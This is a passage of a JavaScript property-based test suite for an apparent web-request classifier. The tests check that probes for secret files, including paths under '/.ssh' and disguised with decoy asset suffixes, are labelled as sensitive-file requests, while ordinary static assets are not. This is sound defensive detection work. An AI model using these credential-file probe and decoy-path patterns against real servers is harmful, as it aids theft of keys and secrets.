        const got = labels(`GET ${target} HTTP/1.1`, status);
        assert.ok(got.includes(want), `${target} ${status}: ${got.join(', ') || 'nothing'}`);
        assert.ok(!got.includes('static-asset/static-asset'), `${target}: ${got.join(', ')}`);
      }
    });
  }

  it('every secret file name without a dot gets its label under any decoy asset path, as the plain name does', () => {
    const bare = secretFile.filter((n) => !n.includes('.'));
    assert.ok(bare.length >= 4);
    fc.assert(
      fc.property(fc.constantFrom(...bare), fc.constantFrom('', '/.ssh', '/home/u'), assetTail, (name, dir, tail) => {
        const target = `${dir}/${name}/${tailOf(tail)}`;
        for (const status of [200, 404]) {
          assert.ok(labels(`GET ${dir}/${name} HTTP/1.1`, status).includes('sensitive-file/secret-file'), name);
          assert.ok(labels(`GET ${target} HTTP/1.1`, status).includes('sensitive-file/secret-file'), `${target} ${status}`);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('real assets below directories without a dot get no secret label', () => {
    for (const t of [
      '/admin/app.js',
      '/assets/env/app.css',
      '/static/keys/logo.png',
      '/users/id/avatar.png',
      '/id/123/avatar.png',
      '/docs/id_rsa-howto/diagram.png',
      '/ssh/id/x.css',
    ]) {
      for (const status of [200, 404]) assert.ok(!labels(`GET ${t} HTTP/1.1`, status).some((l) => l.startsWith('sensitive-file/')), `${t} ${status}`);
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`, 200), [], t);
    }
  });

  it('real assets below directories named like a word, a version or a host stay benign', () => {
    for (const t of [
      '/assets/env/app.css',
      '/environment/x.css',
      '/env/x.css',
      '/static/.well-known/x.css',
      '/.well-known/x.png',
      '/libs/jquery-3.6.0/jquery.min.js',
      '/npm/bootstrap@5.3.2/dist/css/bootstrap.min.css',
      '/img/www.example.com/logo.png',
      '/users/john.doe/avatar.png',
      '/api/v1.2/image.png',
      '/fonts/roboto.v30/roboto.woff2',
    ]) {
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`), ['static-asset/static-asset'], t);
      assert.deepEqual(labels(`GET ${t} HTTP/1.1`, 200), [], t);
    }
    // A host name in an image proxy's path ends like a script (`.pl`): no decoy cut there either.
    for (const t of ['/proxy/www.example.pl/logo.png', '/img/shop.example.do/a/banner.jpg']) assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`), [], t);
  });

  it('never turns a missing asset below dotted directories into a probe', () => {
    // Letters that spell no probe word or extension (`env`, `bak`, `sql`, `zip`…).
    const dir = fc.string({ unit: fc.constantFrom(...'aefhjqvxyz-_.'), minLength: 1, maxLength: 8 }).filter((s) => !/^\.+$/.test(s) && !s.endsWith('.'));
    const ext = fc.constantFrom('css', 'js', 'png', 'woff2', 'svg', 'ico');
    fc.assert(
      fc.property(fc.array(dir, { minLength: 1, maxLength: 4 }), ext, (dirs, e) => {
        const t = `/${dirs.join('/')}/f.${e}`;
        assert.deepEqual(probeLabels(`GET ${t} HTTP/1.1`), [], t);
      }),
      { numRuns: 500 },
    );
  });
});
